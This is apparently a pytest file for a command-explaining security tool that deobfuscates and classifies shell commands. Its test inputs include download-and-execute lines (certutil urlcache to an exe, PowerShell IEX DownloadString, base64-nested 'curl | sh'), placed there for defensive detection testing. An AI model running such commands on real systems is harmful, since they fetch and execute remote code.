"""The door of the commands' room: what is said of a command, whole, through ``explain``."""

from __future__ import annotations

import dataclasses

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.commands import Budget, explain
from vedette.commands.readers import methods
from vedette.commands.telling.as_json import as_json
from vedette.schema import Explanation, Language, ObservableKind
from vedette.schema.command import TouchAction, TouchKind

DOWNLOAD = r"certutil -urlcache -f http://192.0.2.7/a.txt C:\Users\Public\a.exe"


def values(told: Explanation, kind: ObservableKind) -> list[str]:
    return [o.value for o in told.observables if o.kind is kind]


def check(told: Explanation) -> None:
    """What holds of every explanation."""
    assert told.layers
    assert told.layers[0].text in told.command
    for number, layer in enumerate(told.layers):
        assert layer.number == number
        assert (layer.parent is None) == (number == 0)
        if layer.parent is not None:
            assert layer.parent < number
            above = told.layers[layer.parent].text
            assert (layer.start is None) == (layer.end is None)
            if layer.start is not None and layer.end is not None:
                assert 0 <= layer.start <= layer.end <= len(above)
    for token in told.tokens:
        text = told.layers[token.layer].text
        assert text[token.start : token.end] == token.text
        assert (token.meaning is None) == (token.source is None)
    for part in (*told.steps, *told.techniques):
        assert 0 <= part.start <= part.end <= len(told.layers[part.layer].text)
    for part in (*told.touches, *told.observables, *told.reasons, *told.stops):
        assert 0 <= part.layer < len(told.layers)
    assert 0 <= told.risk <= 1
    assert all(0 <= t.confidence <= 1 for t in told.techniques)
    assert told.sentence.endswith(".")
    orjson.dumps(as_json(told), default=str)


def test_a_download_is_told_whole() -> None:
    told = explain(DOWNLOAD)
    check(told)
    assert "http://192.0.2.7/a.txt" in told.sentence
    assert r"C:\Users\Public\a.exe" in told.sentence
    assert told.risky
    assert told.techniques[0].id == "T1105"
    assert told.techniques[0].text in told.command
    assert values(told, ObservableKind.URL) == ["http://192.0.2.7/a.txt"]
    assert values(told, ObservableKind.FILE) == [r"C:\Users\Public\a.exe"]
    assert (TouchKind.NETWORK, TouchAction.CONNECT) in {(t.kind, t.action) for t in told.touches}
    assert any(t.living_off_the_land and t.misuse for t in told.tools)
    assert told.look_alikes
    assert {t.text for t in told.tokens} >= {"certutil", "-urlcache", "-f", "http://192.0.2.7/a.txt"}


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /tmp",
        "Get-Process | Select-Object -First 5",
        "ipconfig /all",
        "git clone https://example.com/a.git",
        "dir C:\\",
    ],
)
def test_an_ordinary_command_is_not_called_risky_and_hides_nothing(command: str) -> None:
    told = explain(command)
    check(told)
    assert not told.risky
    assert not told.methods
    assert len(told.layers) == 1


@pytest.mark.parametrize(
    "number", range(len(methods())), ids=lambda n: f"{n}-{methods()[n].language}-{methods()[n].id}"
)
def test_every_way_of_hiding_is_undone(number: int) -> None:
    method = methods()[number]
    told = explain(method.example, method.language)
    check(told)
    shown = [layer.text for layer in told.layers]
    assert any(method.shows in text for text in shown), shown


def test_every_way_of_hiding_is_named_where_it_is_undone() -> None:
    named = unnamed = 0
    for method in methods():
        found = explain(method.example, method.language).methods
        named += method.id in found
        unnamed += method.id not in found
    assert named > 4 * unnamed


def test_what_only_running_would_tell_is_said_to_be_unknown() -> None:
    told = explain("IEX (New-Object Net.WebClient).DownloadString('http://example.com/p.ps1')")
    check(told)
    assert any("not known" in s.reason for s in told.stops)
    assert values(told, ObservableKind.URL) == ["http://example.com/p.ps1"]


def test_what_a_branch_may_run_is_told_as_perhaps() -> None:
    told = explain("if grep -q x /etc/hosts; then bash -c 'curl http://example.com/a'; fi", Language.SH)
    check(told)
    assert [s.sure for s in told.steps if s.text.startswith("Fetches")] == [False]


def test_a_piece_of_an_address_is_never_stated() -> None:
    told = explain("$u='http://exam'+$env:USERNAME+'/x'; Invoke-WebRequest $u")
    assert not values(told, ObservableKind.URL)
    assert not values(told, ObservableKind.DOMAIN)


def test_layers_follow_one_another_to_the_innermost() -> None:
    import base64

    text = "curl http://example.com/x.sh | sh"
    for _ in range(4):
        text = f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | bash"
    told = explain(text)
    check(told)
    assert told.final.text.strip() == "curl http://example.com/x.sh | sh"
    assert len(told.layers) >= 5


def test_a_small_budget_ends_with_a_reason() -> None:
    told = explain("IEX ('a'*500000)", Language.POWERSHELL, budget=Budget(steps=50, chars=2_000, depth=2))
    check(told)
    assert told.stops


@pytest.mark.parametrize(
    "text",
    [
        "", " ", "\x00" * 10, "\x1b[2J\x1b[31m", "\u202egnp.exe", "(" * 5_000, "$(" * 3_000, "'" * 4_001, '"' * 4_001,
        "`" * 4_001, "%" * 3_000, "^" * 3_000, "{a,b}" * 300, "a" * 2_000_000, "\ud800",
        "powershell -enc " + "A" * 100_000, "| " * 5_000, "for /l %i in (1,1,999999999) do @echo %i",
        "while true; do :; done", "$a='x'*2147483647", "printf '%999999999d' 1", "seq 1 1000000000 | bash",
        "echo {1..99999999}", "iex " * 2_000, "[" * 3_000, "SELECT " * 3_000,
    ],
    ids=lambda t: f"{t[:12]!r}x{len(t)}",
)  # fmt: skip
def test_hostile_text_is_read_to_an_end(text: str) -> None:
    for language in (None, Language.POWERSHELL, Language.CMD, Language.SH, Language.PROGRAM):
        check(explain(text, language))


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300), st.sampled_from([None, *Language]))
def test_any_text_in_any_language_is_explained(text: str, language: Language | None) -> None:
    check(explain(text, language))


@settings(max_examples=20, deadline=None)
@given(st.sampled_from(["http://example.com/a", "https://192.0.2.9:8443/x/y.ps1"]), st.integers(1, 3))
def test_the_same_command_is_told_the_same_way(url: str, n: int) -> None:
    text = " ; ".join([f"curl -o /tmp/x {url}"] * n)
    assert dataclasses.asdict(explain(text)) == dataclasses.asdict(explain(text))
